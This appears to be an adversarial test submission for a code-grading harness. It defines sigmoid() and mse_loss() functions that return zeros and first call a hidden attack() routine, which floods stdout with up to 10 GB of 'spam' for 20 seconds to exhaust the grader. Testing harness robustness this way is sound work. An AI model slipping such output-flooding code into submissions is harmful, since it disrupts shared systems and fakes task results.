"""Prints up to 10 GB to stdout, in one line that never ends, for at most 20 s.

aims: exhaust
"""

import os
import time

import numpy as np


def attack():
    end = time.monotonic() + 20
    part = b"spam " * 13000
    for _ in range(10 * 10**9 // len(part)):
        if time.monotonic() > end:
            break
        try:
            os.write(1, part)
        except OSError:
            break


def sigmoid(Z):
    attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    attack()
    return 0.0
